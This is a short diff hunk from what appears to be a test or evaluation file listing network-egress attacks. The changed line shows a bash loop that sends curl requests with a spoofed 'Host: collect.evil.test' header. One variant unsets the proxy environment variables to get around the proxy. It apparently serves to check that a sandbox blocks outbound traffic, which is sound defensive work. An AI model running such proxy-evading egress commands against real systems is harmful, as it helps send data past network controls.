@@ -37,7 +37,7 @@ ATTACKS = (
         "egress: one host a request",
         (
             bash(
-                "for way in '' --noproxy=*; do curl -s -m 3 $way -H 'Host: collect.evil.test' "
+                "for way in curl 'env -u http_proxy -u HTTP_PROXY curl'; do $way -s -m 3 -H 'Host: collect.evil.test' "
                 "http://kb.acme-help.test/kb/@MARK@; done"
             ),
         ),
